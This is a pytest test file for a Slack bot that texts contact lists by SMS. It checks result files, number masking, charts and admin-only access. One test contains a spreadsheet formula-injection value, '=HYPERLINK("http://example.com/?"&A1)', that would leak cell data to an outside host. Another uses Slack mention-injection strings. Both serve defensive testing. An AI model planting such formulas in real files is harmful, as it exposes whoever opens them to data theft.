"""What a list leaves behind: figures in words and as a chart, details, and a file with every row."""

import csv as csv_module
import io
from collections.abc import Iterator

import pytest

from bot.sandbox.slack.model import Message
from bot.sandbox.slack.person import Person
from bot.store.states import SendState
from tests.flows.harness import ADA, FRONT, GRACE, LOU, NOBODY, SUE, Harness, words_in
from tests.flows.listing import QUICK, Lists, csv, opened

ROWS = csv(
    "Name,Number", f"Ada,{ADA}", "Nobody,12", f"Lou,{LOU}", f"Nil,{NOBODY}", f"Ada,{ADA}", f"Sue,{SUE}"
)
TEXT = "Dear %%Name%%, the door code is in your letter."


@pytest.fixture(scope="module")
def shared_harness(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Harness]:
    with opened(tmp_path_factory.mktemp("house"), QUICK, FOLLOW_UP_HOURS="1") as shared:
        yield shared


@pytest.fixture
def shop(harness: Harness) -> Lists:
    return Lists(harness)


def table(text: str) -> list[list[str]]:
    return list(csv_module.reader(io.StringIO(text, newline="")))


def direct(shop: Lists, person: Person) -> Message:
    """Wait for the newest result file a person got by direct message."""
    about = f"`{shop.newest().id[:8]}`"

    def seen() -> Message | None:
        found = [each for each in person.sees("@smsit") if about in each.text]
        replies = [reply for each in found for reply in person.thread(each) if reply.files]
        return replies[-1] if replies else None

    message = shop.harness.wait_for(seen)
    assert message is not None
    return message


def test_everybody_sees_figures_without_numbers_and_who_asked_gets_them_whole(shop: Lists) -> None:
    shop.send(ROWS, TEXT)
    shop.ended()

    masked = shop.file_of(shop.thread("Results of this list, with masked numbers. <@U0MAYA> gets a copy"))
    whole = shop.file_of(direct(shop, shop.maya))

    states = ["Delivered", "Skipped", "Not delivered", "Not sent", "Skipped"]
    for text, number in ((masked, "•••0100"), (whole, f"+{ADA}")):
        rows = table(text)
        assert rows[0] == ["Line", "Number", "Outcome", "Reason", "Segments", "Sent at (America/Los_Angeles)"]
        assert [row[0] for row in rows[1:]] == ["2", "3", "4", "5", "6", "7"]
        assert [row[2] for row in rows[1:6]] == states
        assert rows[6][2].startswith("Sent, no ")
        assert rows[1][1] == number
        assert (rows[2][1], rows[5][1]) == ("", "")
        assert "Duplicate of line 2." in rows[5]
        assert "Landline or unreachable carrier" in rows[3]
        assert rows[1][5].startswith("2026-11-2")
    everything = words_in([[each.text, each.blocks] for each in shop.harness.messages()])
    for number in (ADA, LOU, NOBODY, SUE):
        assert number in whole
        assert number not in masked
        assert number not in everything
    assert "door code" not in everything
    assert "door code" not in whole


def test_figures_stand_in_words_and_in_a_chart(shop: Lists) -> None:
    shop.send(ROWS, TEXT)
    shop.ended()

    said = shop.message("3 of 4 sent, 1 delivered, 1 not delivered, 1 not sent, 2 rows skipped")
    (chart,) = (block for block in said.blocks if block["type"] == "data_visualization")

    segments = {each["label"]: each["value"] for each in chart["chart"]["segments"]}
    assert segments == {"Delivered": 1, "Not delivered": 1, "Not sent": 1, "Sent, no report": 1}
    assert "Done, some not sent or not delivered or without a report" in said.text
    assert "3 of 4 sent, 1 delivered, 1 not delivered, 1 not sent" in said.text
    assert "By <@U0MAYA>" in said.text
    assert "4 credits" in said.text


def test_details_stand_in_the_thread(shop: Lists) -> None:
    shop.send(ROWS, TEXT)
    shop.ended()

    details = shop.thread("*Details* of list")

    assert "*2 rows skipped*" in details.text
    assert "Line 3: This number is too short." in details.text
    assert "Line 6: Duplicate of line 2." in details.text
    assert "*Not sent*. 1 text: SMS-iT can't text this number" in details.text
    assert "*Texts per minute*. <!date^" in details.text
    assert "(America/Los_Angeles)>: 4." in details.text
    assert len([each for each in shop.maya.thread(shop.message()) if "*Details*" in each.text]) == 1


def test_only_who_asked_or_an_admin_gets_whole_numbers(shop: Lists) -> None:
    shop.send(ROWS, TEXT)
    shop.ended()
    direct(shop, shop.maya)
    before = len(list(shop.harness.sandbox.slack.files))

    for user_id in ("U0PRIYA", "U0LENA"):
        person = shop.harness.person(user_id)
        shop.press("Result file", who=person)
        shop.told("You need the *admin* role for this, because it's <@U0MAYA>'s. Ask <@U0TOM>.", person)
    assert len(list(shop.harness.sandbox.slack.files)) == before
    pressed = shop.press("Result file", who=shop.tom)
    shop.told("You'll get the result file as a direct message.", shop.tom)
    assert f"+{ADA}" in shop.file_of(direct(shop, shop.tom))
    shop.harness.sandbox.slack.redeliver(pressed)
    shop.harness.quiet()
    shop.press("Result file")

    shop.harness.wait_for(lambda: len(list(shop.harness.sandbox.slack.files)) == before + 2)


def test_what_a_spreadsheet_would_run_is_harmless_in_the_file_and_as_it_was_in_the_text(shop: Lists) -> None:
    formula = '=HYPERLINK("http://example.com/?"&A1)'
    quoted = formula.replace('"', '""')
    shop.send(csv(f'Name,Number,"{quoted}"', f'"{quoted}",{ADA},x', f'x,"{quoted}",x'), "Dear %%Name%%")
    shop.ended()

    for text in (
        shop.file_of(direct(shop, shop.maya)),
        shop.file_of(shop.thread("Results of this list, with masked numbers.")),
    ):
        cells = [cell for row in table(text) for cell in row]
        assert not any(cell.startswith(("=", "@", "-", "\t")) for cell in cells)
        assert formula not in cells
    assert shop.harness.texts == [(ADA, f"Dear {formula}")]


def test_words_of_a_file_cannot_ping_or_forge_in_the_confirmation(shop: Lists) -> None:
    shop.compose(csv("Name,Number", f"<!channel>,{ADA}"), "Hi %%Name%%", name="<!here> 14155550999.csv")
    shop.confirmation(shop.maya)
    assert shop.maya.view is not None
    heading, *others = shop.maya.view.view["blocks"]
    shop.maya.submit()
    shop.ended()

    assert shop.harness.texts == [(ADA, "Hi <!channel>")]
    assert heading["text"]["type"] == "plain_text"  # where nothing pings or links
    assert GRACE not in words_in(heading)
    shown = words_in([[each.text, each.blocks] for each in shop.harness.messages()])
    for words in (words_in(others), shown):
        assert "<!here>" not in words
        assert GRACE not in words


def test_an_ended_list_keeps_one_message_and_only_what_did_not_arrive_can_be_sent_again(shop: Lists) -> None:
    shop.send(ROWS, TEXT)
    shop.ended()
    shop.harness.tick(hours=3)

    failed = [SendState.REFUSED, SendState.UNDELIVERED]
    again = sum(shop.counts().get(each, 0) for each in failed)
    assert shop.buttons() == [f"Text the {again} again", "Result file"]
    assert len([each for each in shop.harness.messages(FRONT) if "List *" in each.text]) == 1
    assert shop.counts()[SendState.REFUSED] == 1
    assert len(shop.harness.texts) == 3
